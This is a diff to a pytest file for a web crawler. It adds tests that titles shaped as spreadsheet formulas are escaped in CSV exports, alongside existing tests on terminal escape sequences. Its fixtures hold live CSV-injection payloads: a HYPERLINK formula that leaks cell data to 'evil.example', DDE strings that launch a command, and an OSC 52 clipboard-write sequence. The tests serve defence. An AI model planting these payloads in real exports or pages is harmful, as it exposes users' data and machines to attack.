@@ -1,10 +1,13 @@
 """What a hostile site's text does to the programs that read the store: the real ``scrapy crawl`` of a replica whose
 pages carry terminal escape sequences (ANSI, OSC 52 writing the clipboard, BEL, C1 controls, NUL) in every field,
 then the real ``scrapy articles``, whose output goes to an operator's terminal. No C0 control character is stored,
-and ``scrapy articles`` escapes what a record holds (C1 controls, which mojibake is made of, stay stored)."""
+and ``scrapy articles`` escapes what a record holds (C1 controls, which mojibake is made of, stay stored). Titles that
+are spreadsheet formulas (``=HYPERLINK("http://evil/?"&A1)``) reach CSV, from ``scrapy export --format csv`` and the
+crawl's own feed export, as text a spreadsheet does not run."""
 
 from __future__ import annotations
 
+import csv
 import json
 import re
 import subprocess
@@ -44,7 +47,15 @@ def escape_page(slug: str) -> bytes:
     return page.encode()
 
 
-PAGES = {"escape-codes": escape_page("escape-codes"), "plain-page": article("plain-page").encode()}
+# Titles Excel, LibreOffice and Google Sheets would run as formulas: by slug.
+FORMULAS = {
+    "formula-equals": '=HYPERLINK("http://evil.example/?leak="&A1,"Совещание по энергетике")',
+    "formula-plus": "+cmd|' /C calc'!A0 Совещание по энергетике",
+    "formula-minus": "-2+3+cmd|' /C calc'!A0 Совещание",
+    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0 Совещание",
+}
+PAGES = {"escape-codes": escape_page("escape-codes"), "plain-page": article("plain-page").encode(),
+         **{slug: article(slug, title=title).encode() for slug, title in FORMULAS.items()}}
 
 
 def build(root: Path) -> Path:
@@ -68,6 +79,7 @@ class Crawled:
 
     result: CrawlResult
     env: dict[str, str]
+    feed_csv: Path  # the crawl's own feed export (``FEEDS``)
 
     def command(self, *args: str) -> subprocess.CompletedProcess[str]:
         command = subprocess.run([sys.executable, "-m", "scrapy", *args], cwd=ROOT, env=self.env, text=True,
@@ -86,10 +98,13 @@ def crawled(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Crawled]:
     root = tmp_path_factory.mktemp("output") / "site"
     root.mkdir()
     config = build(root)
+    feed_csv = root.parent / "items.csv"
+    feeds = json.dumps({str(feed_csv): {"format": "csv"}})
     result = StoreCrawl(None, tmp_path_factory.mktemp("crawls"))(
-        "news", f"config={config}", replica=root, settings=["ROBOTSTXT_OBEY=0", "RETRY_TIMES=0"], timeout=120)
+        "news", f"config={config}", replica=root, settings=["ROBOTSTXT_OBEY=0", "RETRY_TIMES=0", f"FEEDS={feeds}"],
+        timeout=120)
     assert result.returncode == 0, log_excerpt(result.stderr)
-    yield Crawled(result, crawl_environment({}, result.data_dir))
+    yield Crawled(result, crawl_environment({}, result.data_dir), feed_csv)
 
 
 def strings(value: Any) -> Iterator[str]:
@@ -120,3 +135,28 @@ def test_scrapy_articles_prints_no_escape_sequence_to_the_terminal(crawled: Craw
     shown = crawled.command("articles").stdout
     assert "Совещание[2J[1A[K]52;c;cm0gLXJmIH4=\\x9b31m по энергетике" in shown
     assert not SHOWN_CONTROL.search(shown)
+
+
+def slug_of(url: str) -> str:
+    return url.rstrip("/").rsplit("/", 1)[1]
+
+
+def test_stored_titles_are_the_pages_own(crawled: Crawled) -> None:
+    records = crawled.records()
+    assert {slug: records[slug]["title"] for slug in FORMULAS} == FORMULAS
+
+
+@pytest.mark.parametrize("source", ["scrapy export", "feed export"])
+def test_no_csv_cell_starts_as_a_formula(crawled: Crawled, tmp_path: Path, source: str) -> None:
+    if source == "scrapy export":
+        out = tmp_path / "export.csv"
+        crawled.command("export", "--format", "csv", "-o", str(out))
+    else:
+        out = crawled.feed_csv
+    with out.open(newline="", encoding="utf-8") as stream:
+        rows = {slug_of(row["url"]): row for row in csv.DictReader(stream)}
+    assert set(rows) == set(PAGES)
+    assert {slug: rows[slug]["title"] for slug in FORMULAS} == {slug: f"'{title}" for slug, title in FORMULAS.items()}
+    starts = {(slug, name): cell[:40] for slug, row in rows.items() for name, cell in row.items()
+              if cell.startswith(("=", "+", "-", "@", "\t", "\r"))}
+    assert not starts
